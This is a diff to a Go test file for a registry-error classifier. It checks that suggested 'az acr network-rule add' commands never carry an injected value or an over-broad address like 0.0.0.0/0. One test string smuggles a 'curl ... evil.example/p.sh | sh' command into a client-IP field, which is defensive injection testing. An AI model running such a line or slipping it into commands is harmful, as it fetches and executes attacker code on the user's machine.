@@ -232,7 +232,7 @@ func TestHostileWords(t *testing.T) {
 	if got, want := words(fw.Remediation[0]), []string{"az", "acr", "network-rule", "add", "-n", "myreg", "--ip-address", "<your public IP>"}; !slices.Equal(got, want) {
 		t.Errorf("%q reads as %q", fw.Remediation[0], got)
 	}
-	if !strings.Contains(fw.Evidence, `the client IP in the registry's answer "203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #" is not an IP address or range, so the suggested commands show <your public IP> in its place`) {
+	if !strings.Contains(fw.Evidence, `the client IP in the registry's answer "203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #" is not an IP address, so the suggested commands show <your public IP> in its place`) {
 		t.Errorf("evidence = %q", fw.Evidence)
 	}
 	admin := Classify(tr["admin refused"]).Causes[0]
@@ -253,5 +253,19 @@ func TestHostileWords(t *testing.T) {
 	}
 	if !slices.Equal(ops, []string{"|"}) {
 		t.Errorf("%q has the operators %q", l, ops)
+	}
+}
+
+// TestFirewallNotOpened: a 403 naming a range or an address no registry
+// sees a client come from never becomes the address of a network rule:
+// 0.0.0.0/0 would open the registry to everyone.
+func TestFirewallNotOpened(t *testing.T) {
+	for _, ip := range []string{"0.0.0.0/0", "203.0.113.0/24", "::/0", "10.0.0.1", "127.0.0.1", "0.0.0.0"} {
+		o := benign
+		o.ip = ip
+		fw := Classify(every(o)["firewall"]).Causes[0]
+		if !strings.HasSuffix(fw.Remediation[0], "--ip-address <your public IP>") {
+			t.Errorf("client IP %q: %q", ip, fw.Remediation[0])
+		}
 	}
 }
